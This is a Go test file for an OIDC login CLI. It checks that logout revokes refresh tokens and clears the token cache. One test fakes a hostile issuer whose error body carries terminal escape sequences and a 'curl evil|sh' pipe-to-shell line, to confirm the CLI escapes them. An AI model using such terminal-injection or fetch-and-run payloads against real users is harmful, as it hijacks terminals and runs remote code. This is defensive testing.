package main

import (
	"encoding/pem"
	"errors"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/aksoidc/aksoidc/pkg/login"
	"github.com/aksoidc/aksoidc/pkg/tokencache"
	"github.com/aksoidc/aksoidc/test/oidctest"
)

// TestLogoutRevokes: where the identity provider has a revocation endpoint (RFC 7009), logout
// revokes the refresh token there, then forgets the token; a failed revocation is reported and
// the token is forgotten all the same.
func TestLogoutRevokes(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name        string
		failStatus  int
		wantStderr  string
		wantRevoked bool
	}{
		{name: "revoked", wantStderr: "Revoked the refresh token at the identity provider and removed the cached token.\n", wantRevoked: true},
		{name: "revocation fails", failStatus: http.StatusServiceUnavailable,
			wantStderr: "Removed the cached token; revoking its refresh token at the identity provider failed " +
				"(the revocation endpoint answered HTTP 503 temporarily_unavailable): it stays valid there until it expires.\n"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			p := oidctest.NewProvider(t, "kubectl")
			p.EnableRevocation(tt.failStatus)
			dir := t.TempDir()
			if r := deviceLogin(t, p, dir, nil); r.code != 0 {
				t.Fatalf("login: %+v", r.stderr)
			}
			refresh := cachedEntry(t, p, dir).RefreshToken
			flags := []string{"--issuer-url", p.URL, "--client-id", "kubectl", "--grant-type", "device-code",
				"--certificate-authority", p.CAFile, "--token-cache-storage", "file", "--token-cache-dir", dir}
			out := runCLI(t, nil, append([]string{"logout"}, flags...)...)
			if diff := cmp.Diff(result{stderr: tt.wantStderr}, out, cmp.AllowUnexported(result{})); diff != "" {
				t.Errorf("logout (-want +got):\n%s", diff)
			}
			if got := p.RefreshTokenValid(refresh); got == tt.wantRevoked {
				t.Errorf("refresh token valid at the provider after logout: %v, want %v", got, !tt.wantRevoked)
			}
			if tt.wantRevoked && !cmp.Equal(p.Revoked(), []string{"refresh_token " + refresh}) {
				t.Errorf("revocation requests %q, want one for the refresh token", p.Revoked())
			}
			who := runCLI(t, nil, append([]string{"whoami"}, flags...)...)
			if who.code != 1 || !strings.Contains(who.stderr, "no cached token for these settings") {
				t.Errorf("whoami after logout = %+v, want no cached token", who)
			}
			if strings.Contains(out.stderr, refresh) {
				t.Error("logout printed the refresh token")
			}
		})
	}
}

// TestLogoutEscapesWhatTheIssuerSays: a revocation that fails on the issuer's discovery
// carries the issuer's own answer (go-oidc quotes the body); logout prints it escaped, so an
// issuer cannot drive the user's terminal, and still forgets the token.
func TestLogoutEscapesWhatTheIssuerSays(t *testing.T) {
	t.Parallel()
	hostile := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.WriteHeader(http.StatusInternalServerError)
		_, _ = w.Write([]byte("\x1b]0;owned\a\x1b[2Jrun curl evil|sh"))
	}))
	t.Cleanup(hostile.Close)
	dir := t.TempDir()
	caFile := filepath.Join(dir, "ca.pem")
	if err := os.WriteFile(caFile, pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: hostile.Certificate().Raw}), 0o600); err != nil {
		t.Fatal(err)
	}
	key := login.Settings{IssuerURL: hostile.URL, ClientID: "kubectl", GrantType: login.DeviceCode}.CacheKey()
	if err := (tokencache.FileStore{Dir: dir}).Save(key.ID(), tokencache.Entry{IDToken: "x", RefreshToken: "r", Expiry: time.Now().Add(time.Hour)}); err != nil {
		t.Fatal(err)
	}
	out := runCLI(t, nil, "logout", "--issuer-url", hostile.URL, "--client-id", "kubectl", "--grant-type", "device-code",
		"--certificate-authority", caFile, "--token-cache-storage", "file", "--token-cache-dir", dir)
	if out.code != 0 || strings.ContainsAny(out.stderr, "\x1b\a") || !strings.Contains(out.stderr, `\x1b]0;owned`) {
		t.Errorf("logout = %+v, want exit 0 and the issuer's answer escaped", out)
	}
	if _, err := (tokencache.FileStore{Dir: dir}).Load(key.ID()); !errors.Is(err, tokencache.ErrNotFound) {
		t.Errorf("the token is still cached after logout: %v", err)
	}
}
